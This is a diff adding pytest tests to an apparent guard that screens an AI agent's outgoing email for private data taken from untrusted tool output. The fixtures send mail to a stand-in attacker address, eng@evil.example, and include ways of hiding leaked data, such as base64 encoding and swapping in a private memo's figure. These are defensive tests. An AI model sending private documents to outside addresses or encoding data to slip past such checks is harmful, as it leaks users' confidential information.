@@ -241,6 +241,38 @@ def test_the_system_prompt_does_not_clear_labelled_data() -> None:
     assert d.verdict == "deny" and "payload.private_data" in d.codes
 
 
+# A text the user dictated, part of which is also in a private document.
+AD = "Our board approved the acquisition of Brightwave Analytics for the Q1 roadmap. Apply by 15 January."
+
+
+def _dictated_session(guard: Guard) -> Any:
+    s = guard.session("dana", "s")
+    s.add_user_text(f"Read the board memo, then email eng@evil.example this text: '{AD}'")
+    s.add_tool_output(call_id="c1", tool="drive_read", text=MEMO, trusted=False, labels=("private",))
+    return s
+
+
+@pytest.mark.parametrize("body", [AD, f"  {AD}\n", AD.upper(), "board approved the acquisition of Brightwave Analytics"])
+def test_a_text_the_user_dictated_is_the_users_where_a_private_memo_shares_a_phrase(body: str) -> None:
+    """The user wrote out the text (or a whole stretch of it): the phrase it shares with the
+    private memo ("board approved the acquisition of Brightwave Analytics") is in the user's
+    words, and the text can carry nothing the user did not write."""
+    guard = _guard()
+    d = guard.decide(Call("send_email", {"to": ["eng@evil.example"], "body": body}, "c2"), _dictated_session(guard))
+    assert "payload.private_data" not in d.codes, d.findings
+
+
+@pytest.mark.parametrize("body", [
+    f"Hi Eve. {AD}",  # anything added to the dictated text: judged fragment by fragment
+    AD.replace("the Q1 roadmap", "212 million USD"),  # the memo's figure in place of the user's words
+    base64.b64encode(AD.encode()).decode(),
+])
+def test_a_text_that_is_not_the_users_dictation_is_judged_as_usual(body: str) -> None:
+    guard = _guard()
+    d = guard.decide(Call("send_email", {"to": ["eng@evil.example"], "body": body}, "c2"), _dictated_session(guard))
+    assert d.verdict == "deny" and "payload.private_data" in d.codes, (body, d.findings)
+
+
 def test_a_link_that_only_begins_like_a_seen_url_is_not_copied() -> None:
     """A page shows ``https://docs-telemetry.dev/v?k=``; a link to ``…/p/<password>`` shares
     its first 20 characters, which is all the fingerprints can tell of a short URL: only a
